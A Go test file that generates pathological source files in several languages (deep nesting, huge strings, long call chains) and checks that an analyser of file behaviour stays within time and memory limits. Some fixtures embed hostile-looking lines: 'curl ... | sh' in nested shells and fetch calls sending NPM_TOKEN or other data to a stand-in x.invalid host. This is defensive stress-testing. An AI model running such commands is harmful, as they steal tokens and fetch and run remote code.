package behavior

import (
	"fmt"
	"runtime"
	"runtime/metrics"
	"strings"
	"testing"
	"time"
)

// The bounds of one file on a quiet machine; a test allows for a busy one.
const (
	usualTime, longestTime   = 2 * time.Second, 20 * time.Second
	usualMemory, largestHeap = 256 << 20, 2560 << 20
)

// A hostile file is made to take time or memory.
type hostile struct{ name, file, source string }

// deep nests a text n times between two others.
func deep(n int, opens, inside, closes string) string {
	return strings.Repeat(opens, n) + inside + strings.Repeat(closes, n)
}

const many = 100_000

// hostileFiles are made when they are asked for: together they are large.
var hostileFiles = []func() hostile{
	func() hostile {
		return hostile{"a bundle in one line", "a.js", bundleOf(12 << 20)}
	},
	func() hostile {
		return hostile{"a bundle of texts", "a.js", "var a=[" + repeated(600_000, "'w%dq',") + "];function d(i){return a[i-1]}" + repeated(many, "f(d(%d));")}
	},
	func() hostile { return hostile{"brackets", "a.js", deep(many, "[", "", "]")} },
	func() hostile { return hostile{"parentheses", "a.ts", "x=" + deep(many, "(", "1", ")")} },
	func() hostile { return hostile{"functions", "a.js", deep(many, "function f(){", "", "}")} },
	func() hostile { return hostile{"arrows", "a.js", strings.Repeat("x=>", many) + "1"} },
	func() hostile { return hostile{"templates", "a.js", deep(many, "`${", "1", "}`")} },
	func() hostile { return hostile{"calls", "a.js", deep(many, "f(", "1", ")")} },
	func() hostile { return hostile{"members", "a.js", "x" + strings.Repeat(".then(f)", many)} },
	func() hostile { return hostile{"brackets of Python", "a.py", deep(many, "[", "", "]")} },
	func() hostile { return hostile{"calls of Python", "a.py", deep(many, "f(", "1", ")")} },
	func() hostile { return hostile{"lambdas of Python", "a.py", strings.Repeat("lambda x: ", many) + "1"} },
	func() hostile { return hostile{"templates of Python", "a.py", deep(many, "f'{", "1", "}'")} },
	func() hostile { return hostile{"functions of Python", "a.py", stairs(2000)} },
	func() hostile { return hostile{"brackets of Ruby", "a.rb", deep(many, "[", "", "]")} },
	func() hostile { return hostile{"functions of Ruby", "a.rb", deep(many, "def f; ", "", "end; ")} },
	func() hostile { return hostile{"templates of Ruby", "a.rb", deep(many, "\"#{", "1", "}\"")} },
	func() hostile {
		return hostile{"brackets of Go", "a.go", "package a\nvar x = " + deep(many, "(", "1", ")")}
	},
	func() hostile {
		return hostile{"functions of Go", "a.go", "package a\nvar x = " + deep(many, "func() {", "", "}()")}
	},
	func() hostile { return hostile{"substitutions of a shell", "a.sh", deep(many, "$(", "x", ")")} },
	func() hostile { return hostile{"groups of a shell", "a.sh", deep(many, "{ ", "x", "; }")} },
	func() hostile { return hostile{"pipes of a shell", "a.sh", strings.Repeat("x | ", many) + "sh"} },
	func() hostile {
		return hostile{"runners of a shell", "a.sh", strings.Repeat("sudo nohup ", many) + "x"}
	},
	func() hostile { return hostile{"brackets of gyp", "binding.gyp", deep(many, "[", "", "]")} },
	func() hostile {
		return hostile{"a long text", "a.js", "x='" + strings.Repeat("abcdefgh", 15_900_000/8) + "'"}
	},
	func() hostile {
		return hostile{"a text over what is read", "a.js", "x='" + strings.Repeat("abcdefgh", 50_000_000/8) + "'"}
	},
	func() hostile {
		return hostile{"a long text of Python", "a.py", "x='" + strings.Repeat("QUJD", 15_900_000/4) + "'"}
	},
	func() hostile { return hostile{"assignments of one name", "a.js", repeated(many, "x=f(x,%d);")} },
	func() hostile {
		return hostile{"a text that grows", "a.js", "x='';" + strings.Repeat("x+='abcdefghijklmnop';", many)}
	},
	func() hostile {
		return hostile{"a text that doubles", "a.js", "x='ab';" + strings.Repeat("x+=x;y=x.replace('a','b').split('').reverse().join('');", 20_000)}
	},
	func() hostile {
		return hostile{"a list that grows", "a.js", "x=[];" + strings.Repeat("x=x.concat(['a']);y=x.join('');", many)}
	},
	func() hostile {
		return hostile{"a list that doubles", "a.js", "x=['a'];" + strings.Repeat("x=[...x,...x];", 1000)}
	},
	func() hostile {
		return hostile{"functions that call the next", "a.js", chain("function f%d(a){return f%d(a)}") + "f0(process.env)"}
	},
	func() hostile {
		return hostile{"functions of Python that call the next", "a.py", chain("def f%d(a): return f%d(a)\n") + "f0(1)"}
	},
	func() hostile { return hostile{"other names", "a.js", chain("var a%d=a%d;")} },
	func() hostile {
		return hostile{"other names from the end", "a.js", backwardChain("var a%d=a%d;") + "a0('x')"}
	},
	func() hostile {
		return hostile{"a list in itself", "a.js", "x=[];x.push(x);x.push(x,x,x);y={};y.a=y;y.b=x;" + strings.Repeat("JSON.stringify(x);fetch('https://x.invalid/',{body:JSON.stringify([x,y])});", 1000)}
	},
	func() hostile {
		return hostile{"an object in itself of Python", "a.py", "import requests\nx = []\n" + strings.Repeat("x.append(x)\n", 2000) + "requests.post('https://x.invalid/', json=x)"}
	},
	func() hostile {
		return hostile{"comprehensions", "a.py", "l = [" + repeated(4000, "%d,") + "]\n" + strings.Repeat("x = [[[chr(c) for c in l] for b in l] for a in l]\n", 200)}
	},
	func() hostile {
		return hostile{"maps", "a.js", "l=[" + repeated(4000, "%d,") + "];" + strings.Repeat("l.map(c=>String.fromCharCode(c)).join('');", 200)}
	},
	func() hostile {
		return hostile{"code in code", "a.js", "x=\"" + strings.Repeat("eval('1');", 100_000) + "\";" + strings.Repeat("eval(x);", 100)}
	},
	func() hostile {
		return hostile{"a shell in a shell", "a.sh", strings.Repeat("sh -c 'sh -c \"curl https://x.invalid/ | sh\"'\n", 20_000)}
	},
	func() hostile {
		return hostile{"secrets in one function", "a.js", repeated(20_000, "fetch('https://x%d.invalid/'+process.env.NPM_TOKEN);")}
	},
	func() hostile {
		return hostile{"many that load modules", "a.js", "t={" + repeated(5000, "%d:(e,x,r)=>{e.exports=r(1)},") + "};" + repeated(5000, "function r%d(i){return t[i](m,m.exports,r0)}")}
	},
	func() hostile {
		return hostile{"classes of classes", "a.js", "class A0{}" + repeated(10_000, "A%d;") + inherited(10_000)}
	},
	func() hostile {
		return hostile{"loops in loops", "a.js", "l='" + strings.Repeat("a", 250) + "';" + strings.Repeat("for(const a of l)for(const b of l)for(const c of l)x+=c;", 500)}
	},
	func() hostile {
		return hostile{"maps of maps", "a.js", "l=[" + repeated(5000, "['k%d',1],") + "];" + strings.Repeat("new Map(l).entries();Object.entries(Object.fromEntries(l));", 5000)}
	},
	func() hostile {
		return hostile{"calls by a parameter", "a.js", "function f(p){x.y[p](1)" + strings.Repeat(".y[p](1)", 60) + "}"}
	},
	func() hostile { return hostile{"handlers", "a.js", repeated(50_000, "w.on('x',m=>{g(%d,m)});")} },
	func() hostile { return hostile{"classes", "a.js", repeated(50_000, "class A%d{f(){return this.g()}}")} },
	func() hostile {
		return hostile{"a tree of functions", "a.js", "function f0(x){return x}" + treeOfFunctions(4000) + "f3999(process.env)"}
	},
}

// bundleOf is about n bytes of what a bundler makes.
func bundleOf(n int) string {
	var b strings.Builder
	b.WriteString("!function(){var e={")
	for i := 0; b.Len() < n; i++ {
		fmt.Fprintf(&b, "%d:function(e,t,r){\"use strict\";var n=r(%d),o=r(%d);t.a=function(e){return e.map(function(e){return n.b(e.%c,{x:%d,y:[\"k%d\",o.c]})}).filter(Boolean)},t.b=class{constructor(e){this.x=e}get(t){return t?this.x[t]||(this.x[t]=o.c(t)):null}}},", i, i+1, i+2, 'a'+i%26, i, i)
	}
	b.WriteString("};function r(t){return e[t](t,{},r)}r(0)}()")
	return b.String()
}

// inherited is n classes, each of which has a method more than the one before.
func inherited(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "class A%d extends A%d{m%d(){return super.m%d()}}", i+1, i, i+1, i)
	}
	return b.String()
}

// stairs is n functions of Python, each in the one before.
func stairs(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(strings.Repeat(" ", i) + "def f():\n")
	}
	return b.String() + strings.Repeat(" ", n) + "pass\n"
}

func chain(form string) string {
	var b strings.Builder
	for i := range many {
		fmt.Fprintf(&b, form, i, i+1)
	}
	return b.String()
}

func backwardChain(form string) string {
	var b strings.Builder
	b.WriteString("var a100000=eval;")
	for i := many - 1; i >= 0; i-- {
		fmt.Fprintf(&b, form, i, i+1)
	}
	return b.String()
}

func treeOfFunctions(n int) string {
	var b strings.Builder
	for i := 1; i < n; i++ {
		fmt.Fprintf(&b, "function f%d(x){f%d(x);f%d(x);f%d([x])}", i, i/2, i-1, i-1)
	}
	return b.String()
}

// Nobody waits for long because of what one file holds.
func TestHostileFilesAreAnswered(t *testing.T) {
	if testing.Short() {
		t.Skip("large files")
	}
	for _, file := range hostileFiles {
		h := file()
		data := []byte(h.source)
		h.source = ""
		runtime.GC()
		peak := watch()
		start := time.Now()
		f := Of(h.file, data)
		took, heap := time.Since(start), peak()
		missed := ""
		if took > usualTime || heap > usualMemory {
			missed = " OVER THE USUAL BOUND"
		}
		t.Logf("%-40s %5.1f MB %8v %6.0f MB %s%s", h.name, float64(len(data))/1e6, took.Round(time.Millisecond), float64(heap)/1e6, f.Trouble, missed)
		if took > longestTime || heap > largestHeap {
			t.Errorf("%s: took %v and %d MB", h.name, took, heap>>20)
		}
	}
}

// watch begins to look at how much memory is in use, and returns what ends it
// and says the most that was in use above what was there.
func watch() (peak func() uint64) {
	inUse := func() uint64 {
		sample := []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}}
		metrics.Read(sample)
		return sample[0].Value.Uint64()
	}
	done, result := make(chan bool), make(chan uint64)
	before := inUse()
	go func() {
		most := before
		for {
			most = max(most, inUse())
			select {
			case <-done:
				result <- max(most, inUse()) - before
				return
			case <-time.After(5 * time.Millisecond):
			}
		}
	}()
	return func() uint64 {
		done <- true
		return <-result
	}
}
